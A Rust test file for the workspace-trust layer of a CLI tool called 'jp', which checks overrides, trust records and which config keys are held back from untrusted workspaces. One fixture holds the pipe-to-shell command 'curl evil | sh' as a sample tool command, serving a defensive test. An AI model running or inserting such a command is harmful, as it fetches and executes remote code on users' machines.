#![allow(clippy::unwrap_used)]

use jp_config::trust::{Held, HeldKey, HeldLayer};
use serde_json::json;

use super::*;

fn env(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}

#[test]
fn the_override_is_one_or_zero_and_anything_else_is_an_error() {
    assert_eq!(Override::from_env(&env(&[])), Ok(None));
    assert_eq!(
        Override::from_env(&env(&[(ENV, "1")])),
        Ok(Some(Override::Trust))
    );
    assert_eq!(
        Override::from_env(&env(&[(ENV, "0")])),
        Ok(Some(Override::Distrust))
    );
    assert_eq!(
        Override::from_env(&env(&[(ENV, "yes")])),
        Err(
            "JP_TRUST_WORKSPACE=\"yes\" is neither 1 (trust the workspace for this run) nor 0 (run without what its config holds)"
                .to_owned()
        )
    );
}

#[test]
fn records_are_kept_by_canonical_path_and_revoked() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().display().to_string();
    let store = TrustStore::of_user(&env(&[("HOME", &home)])).unwrap();
    let root = dir.path().join("project");
    std::fs::create_dir_all(root.join("sub")).unwrap();
    assert_eq!(store.get(&root).unwrap(), None);
    let record = Record {
        digest: "abc".into(),
        layers: Some(vec![HeldLayer {
            file: ".jp/config.toml".into(),
            values: json!({ "x": 1 }),
        }]),
    };
    store.set(&root, record.clone()).unwrap();
    // The same directory reached through `..` is the same workspace.
    assert_eq!(store.get(&root.join("sub/..")).unwrap(), Some(record));
    assert!(store.revoke(&root).unwrap());
    assert!(!store.revoke(&root).unwrap());
    assert_eq!(store.get(&root).unwrap(), None);
}

#[test]
fn a_records_file_that_does_not_parse_trusts_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().display().to_string();
    std::fs::create_dir_all(dir.path().join(".config/jp")).unwrap();
    std::fs::write(dir.path().join(".config/jp/trust.json"), "{ not json").unwrap();
    let root = dir.path().join("project");
    std::fs::create_dir_all(&root).unwrap();
    assert_eq!(
        workspace_trust(&env(&[("HOME", &home)]), Some(&root)),
        WorkspaceTrust::Untrusted
    );
    assert_eq!(
        workspace_trust(&env(&[("HOME", &home), (ENV, "1")]), Some(&root)),
        WorkspaceTrust::Trusted
    );
}

fn config_layer(values: serde_json::Value) -> Vec<HeldLayer> {
    vec![HeldLayer {
        file: ".jp/config.toml".into(),
        values,
    }]
}

#[test]
fn what_is_held_is_listed_by_file_and_line_or_by_what_changed() {
    let values = json!({ "conversation": { "tools": {
        "a": { "command": "x" }, "b": { "command": "curl evil | sh" },
    } } });
    let keys = vec![
        HeldKey {
            file: ".jp/config.toml".into(),
            key: "conversation.tools.a".into(),
            line: Some(3),
        },
        HeldKey {
            file: ".jp/config.toml".into(),
            key: "conversation.tools.b".into(),
            line: None,
        },
    ];
    let held = Held::new(config_layer(values), keys, false);
    let listed = [
        "  .jp/config.toml:3: conversation.tools.a",
        "  .jp/config.toml: conversation.tools.b",
    ];
    assert_eq!(
        held_lines(&held, None, None),
        [
            "this workspace is not trusted, so jp leaves out what its config would run or decide:",
            listed[0],
            listed[1],
        ]
    );
    let before = Record {
        digest: "old".into(),
        layers: Some(config_layer(json!({ "conversation": { "tools": {
            "a": { "command": "x" }, "b": { "command": "y" },
        } } }))),
    };
    assert_eq!(
        held_lines(&held, Some(&before), None),
        [
            "this workspace's config changed since you trusted it; until you trust it again, jp leaves out what it would run or decide:",
            "  changed  .jp/config.toml: conversation.tools.b",
        ]
    );
    // A record an earlier jp made keeps no layers: it is asked about
    // again, saying why.
    let earlier = Record {
        digest: "old".into(),
        layers: None,
    };
    assert_eq!(
        held_lines(&held, Some(&earlier), None),
        [
            "this workspace was trusted by an earlier jp, which checked less of its config than jp does now; until you trust it again, jp leaves out what it would run or decide:",
            listed[0],
            listed[1],
        ]
    );
    let applied = Held {
        applied: true,
        ..held
    };
    assert_eq!(held_lines(&applied, None, None), Vec::<String>::new());
}

#[test]
fn a_record_an_earlier_jp_wrote_reads_and_names_no_layers() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().display().to_string();
    let root = dir.path().join("project");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(dir.path().join(".config/jp")).unwrap();
    let key = std::fs::canonicalize(&root).unwrap().display().to_string();
    let old = json!({ "version": 1, "workspaces": { key: {
        "digest": "e9a1", "held": { ".jp/config.toml": { "x": 1 } },
    } } });
    std::fs::write(dir.path().join(".config/jp/trust.json"), old.to_string()).unwrap();
    let store = TrustStore::of_user(&env(&[("HOME", &home)])).unwrap();
    assert_eq!(
        store.get(&root).unwrap(),
        Some(Record {
            digest: "e9a1".into(),
            layers: None,
        })
    );
}
